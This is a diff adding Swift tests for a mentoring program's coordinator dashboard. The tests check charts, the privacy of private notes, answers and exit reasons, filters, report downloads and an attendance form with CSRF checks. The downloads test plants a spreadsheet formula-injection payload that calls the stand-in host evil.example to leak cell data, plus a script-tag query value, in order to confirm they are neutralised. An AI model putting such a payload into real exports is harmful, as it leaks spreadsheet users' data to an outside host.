@@ -1,0 +1,207 @@
+import Foundation
+import Hummingbird
+import MentorCore
+@testable import MentorServer
+import MentorStore
+import Testing
+
+/// The coordinators' dashboard, its downloads and its attendance form; the charts it shares with
+/// `mentor report --format html`.
+struct DashboardTests {
+    static let dashboard = "/programs/one-to-one"
+    static let coordinator = "pat.quinn@example.org"
+    static let day = CalendarDate("2027-06-20")!
+
+    /// The example served as of `day`, with a history: ruiz-lin meets every month, rates its
+    /// check-in 4 and achieves a goal; brandt-aziz meets twice, misses two, and its mentee leaves.
+    /// Private notes, answers and the exit reason carry markers a coordinator must never see.
+    static func fixture() async throws -> ServerFixture {
+        var fixture = try ServerFixture()
+        fixture.configuration.today = day
+        let served = fixture.programs[0]
+        let program = served.program
+        let ruiz = try #require(program.group("ruiz-lin")), brandt = try #require(program.group("brandt-aziz"))
+        let journal = served.journal
+        for (meeting, date) in ["2027-01-11", "2027-02-08", "2027-03-08", "2027-04-12", "2027-05-10", "2027-06-14"].enumerated() {
+            _ = try await journal.logMeeting(group: ruiz, meeting: meeting + 1, date: CalendarDate(date)!,
+                                         notes: "PRIVATE-NOTE-\(meeting + 1)")
+        }
+        _ = try await journal.setGoal(group: ruiz, text: "Lead a street-repair project", date: CalendarDate("2027-01-11")!)
+        _ = try await journal.setGoal(group: ruiz, text: "Present to the council", date: CalendarDate("2027-02-08")!)
+        try await journal.changeGoal(group: ruiz, goal: "g1", to: .achieved, date: CalendarDate("2027-04-12")!)
+        try await journal.checkIn(group: ruiz, by: "e230", rating: 4, answers: ["SECRET-ANSWER"], date: CalendarDate("2027-06-14")!)
+        _ = try await journal.logMeeting(group: brandt, meeting: 1, date: CalendarDate("2027-01-21")!)
+        _ = try await journal.logMeeting(group: brandt, meeting: 2, date: CalendarDate("2027-02-18")!)
+        _ = try await journal.logMeeting(group: brandt, meeting: 3, held: false, date: CalendarDate("2027-03-18")!)
+        _ = try await journal.logMeeting(group: brandt, meeting: 4, held: false, date: CalendarDate("2027-04-15")!)
+        _ = try await journal.exit(group: brandt, by: "e260", reason: "SECRET-REASON", date: CalendarDate("2027-05-02")!)
+        return fixture
+    }
+
+    static let secrets = ["PRIVATE-NOTE", "SECRET-ANSWER", "SECRET-REASON"]
+
+    @Test("the dashboard draws the five charts, each with a title, a description and its numbers as a table")
+    func charts() async throws {
+        let fixture = try await Self.fixture()
+        try await fixture.test { client in
+            let session = try await client.signIn(Self.coordinator)
+            let page = try await client.get(Self.dashboard, cookies: session.cookie)
+            #expect(page.status == .ok)
+            for id in ["meetings", "at-risk", "ratings", "attendance", "goals"] {
+                #expect(page.body.contains("<figure class=\"chart\" id=\"chart-\(id)\">"), "chart \(id)")
+                #expect(page.body.contains("aria-labelledby=\"chart-\(id)-title chart-\(id)-desc\""), "chart \(id) is labelled")
+                #expect(page.body.contains("<title id=\"chart-\(id)-title\">"), "chart \(id) has a title")
+                #expect(page.body.contains("<desc id=\"chart-\(id)-desc\">"), "chart \(id) has a description")
+            }
+            #expect(page.body.components(separatedBy: "<details><summary>The numbers as a table</summary>").count == 6)
+            // The numbers are the report's: ruiz-lin held its 6 meetings; brandt-aziz 2 of the 4 due before it ended
+            // (nothing is due after), so June has ruiz-lin's one.
+            #expect(page.body.contains("8 of 10 meetings planned so far were held"))
+            #expect(page.body.contains("<tr><th scope=\"row\">2027-04</th><td>2</td><td>1</td></tr><tr><th scope=\"row\">2027-05</th><td>1</td><td>1</td></tr>"))
+            #expect(page.body.contains("<tr><th scope=\"row\">2027-06</th><td>1</td><td>1</td></tr>"))
+            // Goals by month: two set by February's end, one achieved by April's.
+            #expect(page.body.contains("<tr><th scope=\"row\">2027-02</th><td>2</td><td>0</td></tr>"))
+            #expect(page.body.contains("<tr><th scope=\"row\">2027-04</th><td>2</td><td>1</td></tr>"))
+            // One rating of 4.
+            #expect(page.body.contains("<tr><th scope=\"row\">4</th><td>1</td></tr>"))
+            // brandt-aziz missed March and April: at risk at April's end (2 active), ended in May (1 active).
+            #expect(page.body.contains("<tr><th scope=\"row\">2027-04</th><td>2</td><td>1</td></tr>"))
+            #expect(page.body.contains("<tr><th scope=\"row\">2027-05</th><td>1</td><td>0</td></tr>"))
+        }
+    }
+
+    @Test("a coordinator reaches no private note, answer or exit reason from the dashboard: every link followed")
+    func privacyOnEveryPage() async throws {
+        let fixture = try await Self.fixture()
+        try await fixture.test { client in
+            let session = try await client.signIn(Self.coordinator)
+            var seen: Set<String> = [], queue = ["/", Self.dashboard]
+            while let path = queue.popLast() {
+                guard seen.insert(path).inserted, seen.count < 60 else { continue }
+                let page = try await client.get(path, cookies: session.cookie)
+                #expect(page.status == .ok, "GET \(path)")
+                for secret in Self.secrets { #expect(!page.body.contains(secret), "\(secret) on \(path)") }
+                for link in Self.links(in: page.body) where link.hasPrefix("/programs/") && !seen.contains(link) {
+                    queue.append(link)
+                }
+            }
+            for path in ["/programs/one-to-one/report.json", "/programs/one-to-one/report.csv",
+                         "/programs/one-to-one/groups/ruiz-lin", "/programs/one-to-one/groups/brandt-aziz"] {
+                #expect(seen.contains(path), "the dashboard links to \(path)")
+            }
+            // And the members themselves still see their own notes: the markers are really recorded.
+            let member = try await client.signIn("sam.lin@example.org")
+            #expect(try await client.get("/programs/one-to-one/groups/ruiz-lin", cookies: member.cookie).body.contains("PRIVATE-NOTE-1"))
+        }
+    }
+
+    /// The `href` values of a page, entities decoded.
+    static func links(in html: String) -> [String] {
+        html.components(separatedBy: "href=\"").dropFirst().compactMap { $0.split(separator: "\"", maxSplits: 1).first }
+            .map { $0.replacingOccurrences(of: "&amp;", with: "&").replacingOccurrences(of: "&#61;", with: "=") }
+            .map { $0.split(separator: "#", maxSplits: 1).first.map(String.init) ?? $0 }
+    }
+
+    @Test("filters and sorting: at risk, ended, by mentor, by share held")
+    func filters() async throws {
+        let fixture = try await Self.fixture()
+        try await fixture.test { client in
+            let session = try await client.signIn(Self.coordinator)
+            func groups(_ query: String) async throws -> [String] {
+                let page = try await client.get(Self.dashboard + query, cookies: session.cookie)
+                #expect(page.status == .ok)
+                let table = page.body.components(separatedBy: "<tbody>").dropFirst().first { $0.contains("/groups/") } ?? ""
+                return table.components(separatedBy: "/programs/one-to-one/groups/").dropFirst()
+                    .compactMap { $0.split(separator: "\"").first.map(String.init) }
+            }
+            #expect(try await groups("") == ["ruiz-lin", "brandt-aziz"])
+            #expect(try await groups("?show=ended") == ["brandt-aziz"])
+            #expect(try await groups("?show=on-track") == ["ruiz-lin"])
+            #expect(try await groups("?show=at-risk") == [])
+            #expect(try await groups("?mentor=e150") == ["brandt-aziz"])
+            #expect(try await groups("?sort=held") == ["brandt-aziz", "ruiz-lin"])
+            #expect(try await groups("?show=nonsense&sort=%3Cscript%3E&page=-4") == ["ruiz-lin", "brandt-aziz"], "unknown values fall back")
+        }
+    }
+
+    @Test("report.json is the report; report.csv has a row per group and neutralises formulas")
+    func downloads() async throws {
+        let fixture = try await Self.fixture()
+        try await fixture.test { client in
+            let session = try await client.signIn(Self.coordinator)
+            let json = try await client.get(Self.dashboard + "/report.json", cookies: session.cookie)
+            #expect(json.status == .ok)
+            #expect(json.headers[.contentType] == "application/json; charset=utf-8")
+            let report = try JSONDecoder().decode(ProgramReport.self, from: Data(json.body.utf8))
+            #expect(report.groups.map(\.group) == ["ruiz-lin", "brandt-aziz"])
+            #expect(report.groups[0].held == 6 && report.groups[1].exitBy == "Noor Aziz")
+            #expect(report.groups.allSatisfy { $0.notes == nil && $0.answers == nil && $0.exitReason == nil })
+            let csv = try await client.get(Self.dashboard + "/report.csv", cookies: session.cookie)
+            #expect(csv.headers[.contentType] == "text/csv; charset=utf-8")
+            #expect(csv.headers[.contentDisposition] == "attachment; filename=\"one-to-one-report.csv\"")
+            let lines = csv.body.components(separatedBy: "\r\n").filter { !$0.isEmpty }
+            #expect(lines.count == 3)
+            #expect(lines[0].hasPrefix("group,members,status,"))
+            #expect(lines[2].hasPrefix("brandt-aziz,Leah Brandt,ended early,"))
+        }
+        // Formula injection: text cells that a spreadsheet would run are neutralised; numbers are not.
+        var report = try await Self.fixture().test { client in
+            let session = try await client.signIn(Self.coordinator)
+            return try JSONDecoder().decode(ProgramReport.self, from: Data(try await client.get(Self.dashboard + "/report.json",
+                                                                                                  cookies: session.cookie).body.utf8))
+        }
+        var group = try #require(report.groups.first)
+        group.members = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "@SUM(1)", " -2+3", "+cmd"]
+        group.group = "=1+1"
+        report.groups = [group]
+        let row = ReportRenderer.csv(report).components(separatedBy: "\r\n")[1]
+        #expect(row.hasPrefix("'=1+1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1); @SUM(1);  -2+3; +cmd\",on track,"))
+    }
+
+    @Test("a coordinator records who came to an event; a member can't; bad names are refused and nothing is recorded")
+    func attendance() async throws {
+        let fixture = try await Self.fixture()
+        try await fixture.test { client in
+            let session = try await client.signIn(Self.coordinator)
+            let action = Self.dashboard + "/events/kickoff/attendance"
+            let before = try await client.get(Self.dashboard, cookies: session.cookie)
+            #expect(before.body.contains("action=\"\(action)\""))
+            #expect(before.body.contains("4 invited; attendance not recorded yet."))
+            let bad = try await client.post(action, [("csrf", session.csrf), ("attendees", "e100"), ("attendees", "nobody")],
+                                            cookies: session.cookie)
+            #expect(bad.status == .unprocessableContent)
+            #expect(bad.body.contains("&#39;nobody&#39; is not one of the program&#39;s people") || bad.body.contains("'nobody' is not one"))
+            #expect(try await fixture.programs[0].journal.attendance().isEmpty)
+            let forged = try await client.post(action, [("csrf", "forged"), ("attendees", "e100")], cookies: session.cookie)
+            #expect(forged.status == .forbidden)
+            let member = try await client.signIn("dana.ruiz@example.org")
+            let byMember = try await client.post(action, [("csrf", member.csrf), ("attendees", "e100")], cookies: member.cookie)
+            #expect(byMember.status == .notFound)
+            #expect(try await fixture.programs[0].journal.attendance().isEmpty)
+            let good = try await client.post(action, [("csrf", session.csrf), ("attendees", "e100"), ("attendees", "e230")],
+                                             cookies: session.cookie)
+            #expect(good.status == .seeOther)
+            #expect(good.headers[.location] == Self.dashboard + "?recorded=kickoff#event-kickoff")
+            #expect(try await fixture.programs[0].journal.attendance()["kickoff"] == ["e100", "e230"])
+            let after = try await client.get(Self.dashboard + "?recorded=kickoff", cookies: session.cookie)
+            #expect(after.body.contains("2 of 4 came: Dana Ruiz, Sam Lin."))
+            #expect(after.body.contains("Attendance at Program kickoff recorded."))
+        }
+    }
+
+    @Test("the dashboard follows the journal: a meeting logged elsewhere shows on the next view")
+    func freshAfterWrites() async throws {
+        let fixture = try await Self.fixture()
+        try await fixture.test { client in
+            let session = try await client.signIn(Self.coordinator)
+            let first = try await client.get(Self.dashboard, cookies: session.cookie)
+            #expect(first.body.contains("By 2027-06, 2 goals were set and 1 achieved."))
+            #expect(try await client.get(Self.dashboard, cookies: session.cookie).body == first.body, "the same journal, the same page")
+            // Another server (or the CLI) on the same journal records a goal for ruiz-lin.
+            let ruiz = try #require(fixture.programs[0].program.group("ruiz-lin"))
+            _ = try await fixture.programs[0].journal.setGoal(group: ruiz, text: "Map the district", date: CalendarDate("2027-06-18")!)
+            let second = try await client.get(Self.dashboard, cookies: session.cookie)
+            #expect(second.body.contains("By 2027-06, 3 goals were set and 1 achieved."))
+        }
+    }
+}
